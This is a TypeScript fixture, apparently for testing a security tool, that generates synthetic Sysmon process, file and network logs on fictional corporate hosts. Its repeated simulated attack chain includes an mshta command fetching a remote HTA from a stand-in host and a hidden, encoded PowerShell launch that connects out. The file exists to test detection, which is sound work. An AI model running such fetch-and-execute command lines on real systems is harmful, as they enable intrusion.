import { once } from 'node:events';
import fs from 'node:fs';
import { finished } from 'node:stream/promises';

/** What the recording for the screens holds, as counted when it was written. */
export type ScreensRecording = { readonly records: number; readonly bytes: number };

/** Hosts by the job they have in the measurement. */
export const FOREST_HOST = 'forest.corp.example';
export const BUSY_HOST = 'busy.corp.example';
/** Hosts with one small finding each, for opening one after the other. */
export const ORDINARY_HOSTS = 24;

const DAY = Date.parse('2026-03-02T08:00:00Z');
const SYSTEM32 = 'C:\\Windows\\System32';

/**
 * Writes a recording as Sysmon exported by NXLog: small findings on many hosts, one finding on a host with `processes`
 * processes, and one whose process did `events` things. The same arguments give the same bytes.
 */
export async function writeScreensRecording(
  file: string,
  sizes: { readonly processes: number; readonly events: number },
): Promise<ScreensRecording> {
  const out = fs.createWriteStream(file);
  let records = 0;
  let bytes = 0;
  const write = async (line: string) => {
    records++;
    bytes += line.length + 1;
    if (!out.write(`${line}\n`)) await once(out, 'drain');
  };
  for (let n = 0; n < ORDINARY_HOSTS; n++) {
    const host = teller(`desk${String(n).padStart(2, '0')}.corp.example`, write);
    const explorer = await host.starts(`C:\\Windows\\explorer.exe`, 'explorer.exe');
    for (let i = 0; i < 40; i++)
      await host.starts(`${SYSTEM32}\\svchost.exe`, `svchost.exe -k ${i}`, explorer);
    await chain(host, explorer);
  }
  const forest = teller(FOREST_HOST, write);
  const root = await forest.starts('C:\\Windows\\explorer.exe', 'explorer.exe');
  await growForest(forest, root, sizes.processes);
  await chain(forest, root);

  const busy = teller(BUSY_HOST, write);
  const shell = await busy.starts('C:\\Windows\\explorer.exe', 'explorer.exe');
  const script = await chain(busy, shell);
  for (let i = 0; i < sizes.events; i++) await busy.writes(script, `C:\\Users\\anna\\out\\${i}.dat`);
  out.end();
  await finished(out);
  return { records, bytes };
}

/** A tree of mixed fan-out: every seventh process has children of its own, so that depth grows slowly. */
async function growForest(host: Teller, root: Started, processes: number): Promise<void> {
  const open: Started[] = [root];
  for (let n = 0; n < processes; ) {
    const parent = open.shift() ?? root;
    const children = Math.min(processes - n, 5 + ((n * 7) % 19));
    for (let i = 0; i < children; i++, n++) {
      const started = await host.starts(
        `C:\\Program Files\\App${n % 37}\\app${n % 37}.exe`,
        `app --n ${n}`,
        parent,
      );
      if (n % 7 === 0) open.push(started);
    }
  }
}

/** mshta with remote content that starts PowerShell, which calls out: a complete AN1397. Answers with PowerShell. */
async function chain(host: Teller, parent: Started): Promise<Started> {
  const mshta = await host.starts(
    `${SYSTEM32}\\mshta.exe`,
    'mshta.exe https://cdn.invoice-view.example/a.hta',
    parent,
  );
  const powershell = await host.starts(
    `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    'powershell.exe -w hidden -enc SQBFAFgA',
    mshta,
  );
  await host.connects(powershell);
  return powershell;
}

type Started = { readonly n: number; readonly image: string };
type Teller = ReturnType<typeof teller>;

/** Tells records of one host, 20 ms apart. */
function teller(host: string, write: (line: string) => Promise<void>) {
  let told = 0;
  let processes = 0;
  const record = (id: number, by: Started, more: Readonly<Record<string, unknown>>) => {
    const at = new Date(DAY + told * 20).toISOString();
    return write(
      JSON.stringify({
        EventTime: at.slice(0, 19).replace('T', ' '),
        Hostname: host,
        EventID: id,
        SourceName: 'Microsoft-Windows-Sysmon',
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        RecordNumber: ++told,
        UtcTime: at.slice(0, 23).replace('T', ' '),
        ProcessGuid: guidOf(by.n),
        ProcessId: 1000 + by.n * 4,
        Image: by.image,
        User: 'CORP\\anna',
        ...more,
      }),
    );
  };
  return {
    async starts(image: string, commandLine: string, parent?: Started): Promise<Started> {
      const started = { n: ++processes, image };
      await record(1, started, {
        CommandLine: commandLine,
        IntegrityLevel: 'Medium',
        ...(parent === undefined
          ? {}
          : {
              ParentProcessGuid: guidOf(parent.n),
              ParentProcessId: 1000 + parent.n * 4,
              ParentImage: parent.image,
            }),
      });
      return started;
    },
    writes: (by: Started, path: string) => record(11, by, { TargetFilename: path }),
    connects: (by: Started) =>
      record(3, by, {
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.0.0.5',
        DestinationIp: '198.51.100.7',
        DestinationPort: 443,
      }),
  };
}

function guidOf(n: number): string {
  return `{11111111-2222-3333-4444-${String(n).padStart(12, '0')}}`;
}
